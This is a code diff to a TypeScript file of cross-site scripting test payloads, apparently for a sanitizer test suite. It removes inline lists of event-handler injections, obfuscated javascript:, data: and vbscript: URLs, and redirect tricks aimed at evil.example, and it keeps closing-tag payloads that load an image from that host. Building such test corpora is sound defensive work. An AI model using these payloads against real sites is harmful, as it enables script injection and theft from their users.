@@ -1,110 +1,12 @@
+import { EVENT_HANDLERS } from './eventHandlers';
+import { HOSTILE_URLS } from './hostileUrls';
+
 /**
  * Texts and URLs that have run scripts on other sites, by family: OWASP's "XSS Filter Evasion Cheat
  * Sheet", PortSwigger's "Cross-site scripting cheat sheet", html5sec.org. What they try to run is
  * `xss()`; where they try to send something is `evil.example`.
  */
 const EVIL = 'https://evil.example/x';
-
-/** Elements that raise an event by themselves or on the way past them. */
-const ON_THEIR_OWN = [
-  ['img src=x', 'onerror'],
-  ['img src=//evil.example/x', 'onload'],
-  ['image src=x', 'onerror'],
-  ['svg', 'onload'],
-  ['svg><animate attributeName=x dur=1s', 'onbegin'],
-  ['svg><set attributeName=x', 'onbegin'],
-  ['svg><discard', 'onbegin'],
-  ['body', 'onload'],
-  ['body', 'onpageshow'],
-  ['body', 'onhashchange'],
-  ['iframe', 'onload'],
-  ['frameset', 'onload'],
-  ['object data=x', 'onerror'],
-  ['embed src=x', 'onload'],
-  ['video src=x', 'onerror'],
-  ['video autoplay src=x', 'onloadstart'],
-  ['video><source', 'onerror'],
-  ['audio src=x', 'onerror'],
-  ['audio autoplay controls src=x', 'onplay'],
-  ['link rel=stylesheet href=x', 'onerror'],
-  ['style', 'onload'],
-  ['script src=x', 'onerror'],
-  ['input autofocus', 'onfocus'],
-  ['textarea autofocus', 'onfocus'],
-  ['select autofocus', 'onfocus'],
-  ['button autofocus', 'onfocus'],
-  ['a href=# autofocus', 'onfocus'],
-  ['div contenteditable autofocus', 'onfocus'],
-  ['details open', 'ontoggle'],
-  ['dialog open', 'ontoggle'],
-  ['marquee', 'onstart'],
-  ['marquee loop=1 width=0', 'onfinish'],
-  ['p style="animation:x"', 'onanimationstart'],
-  ['p style="transition:1s"', 'ontransitionend'],
-  ['b', 'onmouseover'],
-  ['b', 'onpointerenter'],
-  ['b', 'onscroll'],
-  ['isindex type=image src=x', 'onerror'],
-  ['math', 'onclick'],
-  ['xss tabindex=1', 'onfocusin'],
-] as const;
-
-/** How an attribute may be written. */
-const FORMS = [
-  (element: string, event: string) => `<${element} ${event}=xss()>`,
-  (element: string, event: string) => `"><${element.toUpperCase()} ${event}="xss()"/>`,
-  (element: string, event: string) => `'></title></script><${element}/${event}\n=\n'xss()' x='`,
-] as const;
-
-const SCHEMES = [
-  'javascript:xss()',
-  'JaVaScRiPt:xss()',
-  ' javascript:xss()',
-  '\u0001javascript:xss()',
-  'java\tscript:xss()',
-  'java\nscript:xss()',
-  'javascript\r\n:xss()',
-  'javascript://evil.example/%0axss()',
-  'javascript:/*https://evil.example*/xss()',
-  'javascript&colon;xss()',
-  '&#106;avascript:xss()',
-  '&#x6A&#x61vascript:xss()',
-  'javascript%3Axss()',
-  'javascript\u2028:xss()',
-  'jаvascript:xss()', // with a Cyrillic letter
-  'vbscript:msgbox(1)',
-  'livescript:xss()',
-  'data:text/html,<script>xss()</script>',
-  'data:text/html;base64,PHNjcmlwdD54c3MoKTwvc2NyaXB0Pg==',
-  'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="xss()"/>',
-  'data:application/javascript,xss()',
-  'blob:https://evil.example/1',
-  'filesystem:https://evil.example/x',
-  'file:///etc/passwd',
-  'view-source:javascript:xss()',
-  'intent://evil.example#Intent;scheme=https;end',
-  'about:blank#javascript:xss()',
-  '//evil.example/x',
-  '\\\\evil.example/x',
-  '/\\evil.example/x',
-  '/\t/evil.example/x',
-  '///evil.example/x',
-  'https:evil.example',
-  'https://evil.example/" onerror="xss()',
-  'https://user:pass@evil.example/x',
-  'https://www.youtube.com/embed/../../x?v="><svg onload=xss()>',
-  'https://www.youtube.com.evil.example/watch?v=aqz-KE-bpKQ',
-  'https://youtu.be/javascript:',
-  '/pictures/"onerror="xss()',
-  '/pictures/../../x',
-  '/pictures/x?" srcset="https://evil.example/x 1w',
-  '#"><svg onload=xss()>',
-] as const;
-
-const LINKED = [
-  (url: string) => `<a href="${url}">click</a>`,
-  (url: string) => `"><iframe src="${url}"></iframe>`,
-] as const;
 
 const CLOSERS = ['title', 'textarea', 'style', 'script', 'noscript', 'template', 'iframe', 'xmp'];
 
@@ -240,9 +142,8 @@ const SINGLE = [
 /** All of them, each once. */
 export const PAYLOADS: readonly string[] = [
   ...new Set([
-    ...ON_THEIR_OWN.flatMap(([element, event]) => FORMS.map((form) => form(element, event))),
-    ...SCHEMES,
-    ...SCHEMES.flatMap((url) => LINKED.map((link) => link(url))),
+    ...EVENT_HANDLERS,
+    ...HOSTILE_URLS,
     ...CLOSERS.map((name) => `</${name}><img src=${EVIL} onerror=xss()>`),
     ...SINGLE,
   ]),
